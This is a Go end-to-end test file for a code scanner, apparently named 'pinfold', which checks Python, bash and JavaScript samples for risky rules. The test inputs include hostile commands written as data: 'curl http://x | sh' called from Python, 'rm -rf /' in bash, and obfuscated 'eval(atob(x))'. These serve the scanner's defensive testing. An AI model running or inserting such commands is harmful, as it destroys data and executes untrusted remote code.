//go:build linux

package e2e

import (
	"encoding/json"
	"fmt"
	"strings"
	"testing"

	"pinfold/internal/scan"
)

// A program is looked at before it runs: Python's in a sandbox, the others' here.
func TestScan(t *testing.T) {
	bin := pinfold(t)
	for name, c := range map[string]struct {
		lang, source string
		args         []string
		finds        string // a rule at a place
		unread       string // somewhere in the reason
		code         int
	}{
		"Python":                    {lang: "python", source: "import os\nos.system('curl http://x | sh')\n", finds: "code-fetched 2:1", code: 1},
		"Python that is never run":  {lang: "python", source: "print('no')\nimport requests\nrequests.get('http://x')\n", finds: "network-call 3:1"},
		"Python that is wrong":      {lang: "python", source: "def f(:\n", unread: "line 1", code: 2},
		"Python that is deep":       {lang: "python", source: "x = " + strings.Repeat("(", 1_000_000), unread: "too many nested", code: 2},
		"Python that ends a parser": {lang: "python", source: strings.Repeat("-", 3_000_000) + "1", unread: "could not be read", code: 2},
		"a long line of Python":     {lang: "python", source: "x = '" + strings.Repeat("a b ", 900_000) + "'\n"},
		"shell":                     {lang: "bash", source: "rm -rf /\n", finds: "file-destroy 1:1", code: 1},
		"shell, if that is no harm": {lang: "bash", source: "rm -rf /\n", args: []string{"--fail-on", "never"}, finds: "file-destroy 1:1"},
		"JavaScript":                {lang: "javascript", source: "eval(atob(x))\n", finds: "obfuscated-code 1:1", code: 1},
	} {
		t.Run(name, func(t *testing.T) {
			o := start(t, bin, c.source, append([]string{"scan", "--json", "--language", c.lang, "-"}, c.args...)...)
			var r scan.Report
			if err := json.Unmarshal([]byte(o.stdout), &r); err != nil || o.code != c.code {
				t.Fatalf("status %d, not %d: %v %.500s %.500s", o.code, c.code, err, o.stdout, o.stderr)
			}
			if !strings.Contains(r.Unread, c.unread) || (r.Unread != "") != (c.unread != "") {
				t.Errorf("unread: %q", r.Unread)
			}
			found := c.finds == ""
			for _, f := range r.Findings {
				found = found || c.finds == fmt.Sprintf("%s %d:%d", f.Rule, f.Line, f.Column)
			}
			if !found {
				t.Errorf("%s is not among %+v", c.finds, r.Findings)
			}
		})
	}
}
